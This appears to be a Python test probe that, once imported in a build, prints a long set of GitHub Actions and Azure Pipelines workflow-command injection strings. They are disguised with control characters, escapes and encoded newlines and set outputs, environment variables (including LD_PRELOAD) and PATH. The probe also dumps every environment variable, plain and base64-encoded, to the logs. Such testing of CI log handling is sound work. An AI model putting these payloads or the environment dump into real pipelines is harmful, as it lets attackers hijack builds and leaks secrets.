"""Wherever this is imported (by the build, by the proof) it shouts commands at the host, and tells what it can see."""

import base64
import os
import sys

SHOUTS = (
    "::add-mask::aml-environment EVIL",
    "::set-output name=environment::azureml:EVIL:1",
    "##[set-output name=environment;]azureml:EVIL:2",
    "::set-output name=EVIL::1",
    "a line, then ##[set-output name=changed;]EVIL",
    "a line, then ##[error]EVIL",
    "\u2003\u00a0::error::EVIL after white space",
    "\x1c::error::EVIL after a separator",
    "looks harmless\r::error file=app.py,line=1::EVIL after CR",
    "a\x85::error::EVIL after NEL\u2028::error::EVIL after LS\x0b::error::EVIL\x0c::error::EVIL",
    "\u200b::error::EVIL after a zero-width space",
    "\x00::error::EVIL after NUL",
    "\x1b[2K\x1b[1A\x1b[31m::error::EVIL in red\x1b[0m",
    "\x1b]8;;https://evil.example/\x1b\\EVIL link\x1b]8;;\x1b\\",
    "::WARNING::EVIL in capitals",
    "::notice title=a%0A%3A%3Aerror%3A%3AEVIL::EVIL%0A::error::EVIL",
    "::group::EVIL",
    "::endgroup::EVIL",
    "::stop-commands::EVIL",
    "::EVIL::",
    "::set-env name=LD_PRELOAD::EVIL",
    "::add-path::/EVIL",
    "::save-state name=a::EVIL",
    "::add-matcher::EVIL.json",
    "::echo::on EVIL",
    "::debug::EVIL",
    "##vso[task.setvariable variable=environment;isOutput=true]EVIL",
    "a line, then ##VSO[task.complete result=Succeeded;done=true;]EVIL",
    "##[section]EVIL",
    "| ::error::EVIL behind a gutter of its own",
    "##" * 40 + "[error]EVIL",
    "::error::" + "EVIL " * 2000,
)


def shout() -> None:
    """Print it all, to both streams, with every line end that a runner knows."""
    seen = "\n".join(f"{name}={value}" for name, value in os.environ.items())
    for stream in (sys.stdout, sys.stderr):
        for end in ("\n", "\r", "\r\n"):
            stream.buffer.write("".join(f"{line}{end}" for line in SHOUTS).encode())
        stream.buffer.write(f"BEGIN ENVIRONMENT\n{seen}\nEND ENVIRONMENT\n".encode())
        stream.buffer.write(base64.b64encode(seen.encode()) + b"\nthe last line has no end: ::error::EVIL\xff\xfe")
        stream.flush()


shout()
